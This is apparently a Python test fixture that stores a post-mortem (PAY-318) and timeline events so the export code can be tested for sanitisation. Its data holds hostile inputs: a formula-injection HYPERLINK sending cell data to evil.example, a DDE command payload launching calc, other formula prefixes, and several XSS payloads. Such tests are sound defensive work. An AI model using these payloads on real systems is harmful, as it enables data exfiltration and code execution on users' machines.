"""A stored post-mortem for the export tests: the Berlin payments-queue post-mortem (PAY-318)
with an action item and timeline events whose texts a spreadsheet would run as formulas, and
one event that is an XSS payload."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from sqlalchemy import Engine

from blamefree.domain.enums import Phase
from blamefree.services import postmortems, timeline
from support.uow import in_uow

DATA = Path(__file__).resolve().parents[1] / "data"
BERLIN = DATA / "postmortems" / "berlin-payments-queue.md"
ID = "PAY-318"
FORMULA_ACTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TODAY = dt.date(2024, 4, 10)
"""The day the exports are made: the short-term item (due 2024-04-05) is overdue."""
XSS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
SECTION_XSS = (
    '<script>alert("section")</script> <a href="javascript:alert(2)">click</a> '
    "[md link](javascript:alert(3)) ![pixel](http://tracker.example/pixel.png)"
)
"""Appended to an item of What Went Wrong: none of it may become markup or load anything."""
RUNBOOK = "https://runbooks.example/payments"
"""A link an author wrote in What Went Wrong: it stays a link."""
EVENTS = [
    ("2024-03-12T22:41:00+01:00", "+cmd|' /C calc'!A0 queue depth alert", Phase.DETECTION, True),
    ("2024-03-12T22:50:00+01:00", "-2+3 consumers restarted", Phase.RESPONSE, False),
    ("2024-03-12T23:20:00+01:00", "@SUM(1+1) lock found on payouts", Phase.INVESTIGATION, True),
    ("2024-03-13T00:05:00+01:00", XSS, Phase.MITIGATION, False),
    ("2024-03-13T01:28:00+01:00", "Queue drained, consumers scaled back", Phase.RESOLUTION, True),
]


def export_text() -> str:
    """The Berlin post-mortem's Markdown with its first action item a formula."""
    text = BERLIN.read_text(encoding="utf-8")
    text = text.replace("Require `CONCURRENTLY` for every index migration", FORMULA_ACTION)
    return text.replace(
        "Nobody knew the migration had been deployed.",
        f"Nobody knew the migration had been deployed ([runbook]({RUNBOOK})). {SECTION_XSS}",
    )


def store_export_doc(engine: Engine, tmp_path: Path) -> str:
    """Store the post-mortem and its events; its incident id."""
    path = tmp_path / "pay-318.md"
    path.write_text(export_text(), encoding="utf-8")
    report = in_uow(engine, postmortems.import_files, paths=[path], today=TODAY, by="Kim")
    assert [(o.action, o.error) for o in report.outcomes] == [("created", None)]
    for at, text, phase, key in EVENTS:
        in_uow(engine, timeline.add_event, incident_id=ID, at=at, text=text, phase=phase,
               key=key, actor="Lena", by="Kim")  # fmt: skip
    return ID
